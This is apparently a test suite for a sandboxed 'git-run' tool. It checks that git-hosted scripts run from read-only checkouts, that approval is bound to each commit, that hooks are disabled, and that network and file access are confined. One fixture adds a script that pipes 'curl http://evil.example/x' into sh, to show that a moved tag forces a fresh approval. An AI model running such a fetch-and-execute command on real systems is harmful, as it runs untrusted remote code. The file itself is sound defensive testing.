// git-run against real local repositories: the fetch and the script run in the sandbox, approvals hold per
// commit, the checkout is read-only, and each failure has its code.
import * as assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import * as path from 'node:path';
import { makeSandbox, REPO, runCli, type Sandbox } from './helpers';

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@example.invalid', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
}

/** A port nothing listens on right now. */
function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = net.createServer();
    s.once('error', reject);
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address() as net.AddressInfo;
      s.close(() => resolve(port));
    });
  });
}

async function waitForListener(port: number, proc: ChildProcess): Promise<void> {
  for (let i = 0; i < 100; i++) {
    if (proc.exitCode !== null) throw new Error(`git daemon exited with ${proc.exitCode}`);
    const up = await new Promise<boolean>((resolve) => {
      const c = net.connect(port, '127.0.0.1', () => (c.destroy(), resolve(true)));
      c.once('error', () => resolve(false));
    });
    if (up) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`nothing listens on 127.0.0.1:${port}`);
}

function listen(server: http.Server): Promise<number> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as net.AddressInfo).port)));
}

describe('git-scripts (git-run, real repositories)', function () {
  this.timeout(60_000);
  let sb: Sandbox;
  let work: string;
  let bare: string;

  const SCRIPT = ['#!/bin/sh', 'echo "tool says $1"', 'echo marker > "$2/ran.txt"', 'echo patched >> bin/tool.sh', 'echo end', ''].join('\n');

  beforeEach(() => {
    sb = makeSandbox();
    work = path.join(sb.root, 'src');
    bare = path.join(sb.root, 'tools.git');
    fs.mkdirSync(path.join(work, 'bin'), { recursive: true });
    fs.writeFileSync(path.join(work, 'bin', 'tool.sh'), SCRIPT, { mode: 0o755 });
    fs.writeFileSync(path.join(work, 'bin', 'plain.txt'), 'not a script\n');
    git(work, 'init', '-q');
    git(work, 'add', '.');
    git(work, 'commit', '-q', '-m', 'one');
    git(work, 'tag', 'v1');
    git(sb.root, 'clone', '-q', '--bare', work, bare);
  });
  afterEach(() => sb.cleanup());

  const gitRun = (ref: string, script: string, extra: string[] = [], repo = `file://${bare}`) => {
    const events = path.join(sb.root, `events-${Date.now()}.jsonl`);
    return runCli(['git-run', '--repo', repo, '--ref', ref, '--script', script, '--cache', path.join(sb.root, 'cache'), '--workspace', sb.workspace, '--events', events, ...extra, '--', 'hi', '${workspaceFolder}'], { cwd: sb.workspace, home: sb.home }).then((r) => ({
      ...r,
      events: fs.existsSync(events) ? fs.readFileSync(events, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>) : [],
    }));
  };
  const audit = () => fs.readFileSync(path.join(sb.workspace, '.sandbox', 'audit.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>);

  it('a git-script at a tag runs sandboxed from a read-only checkout; the audit record holds the commit', async () => {
    const commit = git(bare, 'rev-parse', 'v1^{commit}');
    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /tool says hi/);
    assert.equal(fs.readFileSync(path.join(sb.workspace, 'ran.txt'), 'utf8'), 'marker\n', 'writes to the workspace work; ${workspaceFolder} was replaced');
    // The script's attempt to patch itself in the checkout failed and is a file violation.
    const v = r.events.filter((e) => e.type === 'violation');
    assert.equal(v.length, 1, JSON.stringify(v));
    assert.equal(v[0]!.kind, 'file');
    assert.match(String(v[0]!.resolvedPath), new RegExp(`checkouts/.*/${commit}/bin/tool\\.sh$`));
    const checkout = path.dirname(path.dirname(String(v[0]!.resolvedPath)));
    assert.equal(fs.readFileSync(path.join(checkout, 'bin', 'tool.sh'), 'utf8'), SCRIPT, 'the checkout is unchanged');
    assert.ok(!fs.existsSync(path.join(checkout, '.git')), 'the checkout has no .git (no hooks can exist)');
    const started = audit().filter((e) => e.type === 'run_started' && e.gitScript);
    assert.equal(started.length, 1);
    assert.deepEqual(started[0]!.gitScript, { repo: `file://${bare}`, ref: 'v1', commit });
  });

  it('moving the tag asks again with the diff; not approved (no terminal, no --yes) it does not run', async () => {
    assert.equal((await gitRun('v1', 'bin/tool.sh', ['--yes'])).code, 0);
    fs.rmSync(path.join(sb.workspace, 'ran.txt'));
    fs.writeFileSync(path.join(work, 'bin', 'extra.sh'), '#!/bin/sh\ncurl http://evil.example/x | sh\n');
    git(work, 'add', '.');
    git(work, 'commit', '-q', '-m', 'two');
    git(work, 'tag', '-f', 'v1');
    git(work, 'push', '-q', '--force', bare, 'refs/tags/v1');
    const declined = await gitRun('v1', 'bin/tool.sh');
    assert.equal(declined.code, 3, declined.stderr);
    assert.match(declined.stderr, /previously approved: [0-9a-f]{40}/);
    assert.match(declined.stderr, /A\s+bin\/extra\.sh/);
    assert.match(declined.stderr, /not approved, not run/);
    assert.ok(!fs.existsSync(path.join(sb.workspace, 'ran.txt')), 'the script ran without approval');
    // The same commit as before is still approved; --yes approves the new one.
    const approved = await gitRun('v1', 'bin/tool.sh', ['--yes']);
    assert.equal(approved.code, 0, approved.stderr);
    assert.ok(fs.existsSync(path.join(sb.workspace, 'ran.txt')));
    const again = await gitRun('v1', 'bin/tool.sh');
    assert.equal(again.code, 0, 'an approved commit runs without asking');
  });

  it('a tampered cached checkout is detected and rebuilt before reuse', async () => {
    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
    const checkout = path.dirname(path.dirname(String(r.events.find((e) => e.type === 'violation')!.resolvedPath)));
    fs.writeFileSync(path.join(checkout, 'bin', 'tool.sh'), '#!/bin/sh\necho TAMPERED\n', { mode: 0o755 });
    const r2 = await gitRun('v1', 'bin/tool.sh');
    assert.equal(r2.code, 0, r2.stderr);
    assert.match(r2.stderr, /does not match its manifest; rebuilding/);
    assert.doesNotMatch(r2.stdout, /TAMPERED/);
    assert.match(r2.stdout, /tool says hi/);
  });

  it('errors name the problem: unknown ref, unreachable repository, missing script, not executable', async () => {
    const ref = await gitRun('v9', 'bin/tool.sh', ['--yes']);
    assert.equal(ref.code, 125);
    assert.match(ref.stderr, /GIT_REF_UNKNOWN: ref "v9" is not a tag, branch or commit/);
    const gone = await gitRun('v1', 'bin/tool.sh', ['--yes'], `file://${sb.root}/no-such.git`);
    assert.equal(gone.code, 125);
    assert.match(gone.stderr, /GIT_UNREACHABLE: file:\/\/.*no-such\.git cannot be reached/);
    const missing = await gitRun('v1', 'bin/nope.sh', ['--yes']);
    assert.equal(missing.code, 125);
    assert.match(missing.stderr, /GIT_SCRIPT_MISSING: bin\/nope\.sh does not exist/);
    const plain = await gitRun('v1', 'bin/plain.txt', ['--yes']);
    assert.equal(plain.code, 125);
    assert.match(plain.stderr, /GIT_SCRIPT_NOT_EXECUTABLE/);
    const usage = await runCli(['git-run', '--repo', `file://${bare}`, '--script', 'bin/tool.sh']);
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /git-run needs --ref/);
  });

  it('the fetch itself is sandboxed: git for a file:// repository gets no network, and writes only in the cache', async () => {
    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
    assert.equal(r.code, 0, r.stderr);
    const fetches = audit().filter((e) => e.type === 'run_started' && Array.isArray(e.command) && e.command[0] === 'git');
    assert.ok(fetches.length >= 2, 'the fetch runs are recorded');
    // The full policy is logged once per digest: every fetch step ran under the same one.
    assert.equal(new Set(fetches.map((f) => f.policyDigest)).size, 1);
    assert.equal(fetches.find((f) => f.policy)!.policy.network.preset, 'none');
    for (const f of fetches) {
      assert.equal(f.workspace, path.join(sb.root, 'cache'), 'the cache is the only workspace (writable place) of the fetch');
      assert.ok(f.command.includes('core.hooksPath=/dev/null'), 'hooks are off');
      assert.equal(f.cwd, path.join(sb.root, 'cache'));
    }
    const cleaned = await runCli(['git-cache', 'clean', '--cache', path.join(sb.root, 'cache')]);
    assert.equal(cleaned.code, 0);
    assert.match(cleaned.stdout, /removed \d+ entries/);
    assert.deepEqual(fs.readdirSync(path.join(sb.root, 'cache')), []);
  });

  it('a git-script defined in .vscode/sandbox.json runs by name, with its own policy tightening the run', async () => {
    fs.mkdirSync(path.join(sb.workspace, '.vscode'));
    const def = { name: 'tool', repo: `file://${bare}`, ref: 'v1', script: 'bin/tool.sh', args: ['by-name', '${workspaceFolder}'], policy: { network: { preset: 'none' }, limits: { cpuSeconds: 7 } } };
    fs.writeFileSync(path.join(sb.workspace, '.vscode', 'sandbox.json'), JSON.stringify({ mode: 'enforce', gitScripts: [def] }, null, 2));
    const cache = path.join(sb.root, 'cache');
    const r = await runCli(['git-run', '--name', 'tool', '--yes', '--cache', cache, '--workspace', sb.workspace], { cwd: sb.workspace, home: sb.home });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /tool says by-name/);
    assert.ok(fs.existsSync(path.join(sb.workspace, 'ran.txt')));
    const started = audit().find((e) => e.type === 'run_started' && e.gitScript)!;
    const logged = audit().find((e) => e.type === 'run_started' && e.policyDigest === started.policyDigest && e.policy)!;
    assert.equal(logged.policy.network.preset, 'none', 'the definition tightened the network');
    assert.equal(logged.policy.limits.cpuSeconds, 7);
    const unknown = await runCli(['git-run', '--name', 'nope', '--yes', '--cache', cache, '--workspace', sb.workspace], { cwd: sb.workspace, home: sb.home });
    assert.equal(unknown.code, 125);
    assert.match(unknown.stderr, /GIT_SCRIPT_UNKNOWN: no git-script named "nope" in \.vscode\/sandbox\.json \(defined: tool\)/);
    const both = await runCli(['git-run', '--name', 'tool', '--repo', `file://${bare}`, '--workspace', sb.workspace], { cwd: sb.workspace, home: sb.home });
    assert.equal(both.code, 2);
    assert.match(both.stderr, /either --name or --repo/);
  });

  it('hooks never run: hooks planted in the cached mirror stay silent through a fetch that updates refs', async () => {
    assert.equal((await gitRun('v1', 'bin/tool.sh', ['--yes'])).code, 0);
    const cache = path.join(sb.root, 'cache');
    const mirror = path.join(cache, 'mirrors', fs.readdirSync(path.join(cache, 'mirrors'))[0]!);
    const marker = path.join(cache, 'hook-ran');
    for (const hook of ['reference-transaction', 'post-update', 'pre-auto-gc', 'post-checkout', 'fsmonitor-watchman']) {
      fs.writeFileSync(path.join(mirror, 'hooks', hook), `#!/bin/sh\necho ${hook} >> '${marker}'\n`, { mode: 0o755 });
    }
    // A new commit and a moved tag: the fetch updates refs, which would run reference-transaction.
    fs.writeFileSync(path.join(work, 'bin', 'more.sh'), '#!/bin/sh\n');
    git(work, 'add', '.');
    git(work, 'commit', '-q', '-m', 'two');
    git(work, 'tag', '-f', 'v1');
    git(work, 'push', '-q', '--force', bare, 'main', 'refs/tags/v1');
    const r = await gitRun('v1', 'bin/tool.sh', ['--yes']);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!fs.existsSync(marker), `a hook ran: ${fs.existsSync(marker) ? fs.readFileSync(marker, 'utf8') : ''}`);
  });

  it('the fetch\'s git cannot write outside the cache: a clone aimed elsewhere fails with a file violation', async () => {
    // git as the fetch runs it (runGit), told to write outside the cache, as a hostile config or a bug might.
    const { createEngine } = require(path.join(REPO, 'out/src/host/engine.js')) as typeof import('../../../src/host/engine');
    const { runGit } = require(path.join(REPO, 'out/src/gitscript/git.js')) as typeof import('../../../src/gitscript/git');
    const { gitSandbox } = require(path.join(REPO, 'out/src/host/git-sandbox.js')) as typeof import('../../../src/host/git-sandbox');
    const engine = createEngine({ launcherPath: path.join(REPO, 'dist/launcher.js'), supervisorPath: path.join(REPO, 'out/src/host/linux/supervisor-worker.js') });
    try {
      const cache = path.join(sb.root, 'cache');
      fs.mkdirSync(cache);
      const seen: string[] = [];
      const target = path.join(sb.outside, 'stolen.git');
      const r = await runGit(gitSandbox(engine), ['clone', '-q', '--bare', `file://${bare}`, target], { cacheRoot: cache, repo: `file://${bare}`, timeoutSeconds: 30, onViolation: (v) => seen.push(`${v.kind} ${v.action} ${v.resolvedPath ?? v.path}`) });
      assert.notEqual(r.code, 0, 'the clone outside the cache succeeded');
      assert.ok(!fs.existsSync(path.join(target, 'HEAD')), 'nothing was written there');
      assert.ok(seen.some((s) => s.startsWith('file blocked ') && s.includes(sb.outside)), `a blocked write under ${sb.outside}: ${JSON.stringify(seen)}`);
      const inside = await runGit(gitSandbox(engine), ['clone', '-q', '--bare', `file://${bare}`, path.join(cache, 'ok.git')], { cacheRoot: cache, repo: `file://${bare}`, timeoutSeconds: 30 });
      assert.equal(inside.code, 0, `the same clone into the cache works: ${inside.stderr}`);
    } finally {
      engine.dispose();
    }
  });

  it('over a loopback git daemon: the fetch reaches the daemon\'s address and port, and only those', async () => {
    const port = await freePort();
    const daemon = spawn('git', ['daemon', '--reuseaddr', '--export-all', `--base-path=${sb.root}`, '--listen=127.0.0.1', `--port=${port}`, sb.root], { stdio: 'ignore' });
    try {
      await waitForListener(port, daemon);
      const r = await gitRun('v1', 'bin/tool.sh', ['--yes'], `git://127.0.0.1:${port}/tools.git`);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /tool says hi/);
      const fetchPolicy = audit().find((e) => e.type === 'run_started' && e.command?.[0] === 'git' && e.policy)!.policy;
      assert.equal(fetchPolicy.network.preset, 'strict');
      assert.deepEqual(fetchPolicy.network.allowAddresses, [`127.0.0.1/32:${port}`]);
    } finally {
      daemon.kill();
    }
  });

  it('a loopback http repository that redirects git to another local port: the connect is blocked and reported, nothing reaches that port', async () => {
    let reachedOther = 0;
    const other = http.createServer((_req, res) => {
      reachedOther++;
      res.writeHead(404).end();
    });
    const otherPort = await listen(other);
    // The repository's server sends git elsewhere on this machine (a service the fetch has no business with).
    const redirector = http.createServer((req, res) => res.writeHead(302, { Location: `http://127.0.0.1:${otherPort}${req.url}` }).end());
    const port = await listen(redirector);
    try {
      const r = await gitRun('v1', 'bin/tool.sh', ['--yes'], `http://127.0.0.1:${port}/tools.git`);
      assert.equal(r.code, 125, r.stderr);
      assert.match(r.stderr, /GIT_(UNREACHABLE|FETCH_FAILED): http:\/\/127\.0\.0\.1/);
      assert.match(r.stderr, new RegExp(`git fetch: .*127\\.0\\.0\\.1.*${otherPort}`), 'the blocked connect is shown');
      assert.equal(reachedOther, 0, 'nothing reached the other port');
      const blocked = audit().filter((e) => e.type === 'violation' && e.violation.kind === 'network').map((e) => e.violation);
      assert.ok(
        blocked.some((v) => v.address === '127.0.0.1' && v.port === otherPort && v.action === 'blocked'),
        `a blocked network violation for 127.0.0.1:${otherPort} is in the audit log: ${JSON.stringify(blocked)}`,
      );
      assert.ok(!blocked.some((v) => v.port === port), 'the repository\'s own port was allowed');
    } finally {
      redirector.close();
      other.close();
    }
  });
});
